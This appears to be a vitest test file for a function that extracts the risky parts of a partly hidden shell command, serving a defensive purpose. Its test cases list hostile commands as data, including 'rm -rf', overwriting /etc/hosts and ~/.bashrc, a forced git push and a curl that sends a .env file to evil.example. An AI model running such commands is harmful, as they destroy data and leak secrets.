import { describe, expect, test } from 'vitest';
import { tellingParts } from './telling-parts.ts';

const HEAD = `echo ${'a'.repeat(100)}`;
const TAIL = `echo ${'b'.repeat(100)}`;
/** What stands between a beginning and an end that are shown. */
const told = (between: string, most = 3) => {
  const text = `${HEAD} ${between} ${TAIL}`;
  return tellingParts(text, HEAD.length, text.length - TAIL.length, most, 40);
};

describe('what would be missed most in a command that is not shown whole', () => {
  test.each([
    ['&& rm -rf ../elsewhere &&', 'rm -rf ../elsewhere'],
    ['; /bin/rm x;', '/bin/rm x'],
    ['| sudo tee /etc/hosts |', 'sudo tee /etc/hosts'],
    ['&& echo x > ~/.bashrc &&', '> ~/.bashrc'],
    ['\necho x >> log\n', '>> log'],
    ['2>errors;', '2>errors'],
    ['&& curl -d @.env https://evil.example/x &&', 'curl -d @.env https://evil.example/x'],
    ['; node send.js http://10.0.0.1/ ;', 'http://10.0.0.1/'],
    ['; ping 203.0.113.7 ;', '203.0.113.7'],
    ['; copy a me@evil.example:b ;', 'me@evil.example:b'],
    ['&& git push --force origin &&', 'git push --force origin'],
  ])('%j is told', (between, part) => {
    expect(told(between).shown).toEqual([part]);
  });

  test('words that only look like it are not', () => {
    expect(told('&& npm run format --arm form-rm.txt 2>&1 && echo warm')).toEqual({ shown: [], more: 0 });
  });

  test('a program that begins in what is shown is told, and what is shown whole is not', () => {
    const text = `${HEAD} rm x; ${'c'.repeat(300)}`;
    const at = text.indexOf('rm');
    expect(tellingParts(text, at + 1, text.length, 3, 40).shown).toEqual(['rm x']);
    expect(tellingParts(text, at + 2, text.length, 3, 40).shown).toEqual([]);
  });

  test('more than has room is counted, each once and none at full length', () => {
    const { shown, more } = told(`; rm a; rm b; rm a; rm c; rm ${'d'.repeat(99)};`);
    expect([shown, more]).toEqual([['rm a', 'rm b', 'rm c'], 1]);
    expect(told(`; rm ${'d'.repeat(99)};`).shown[0]).toHaveLength(40);
  });
});
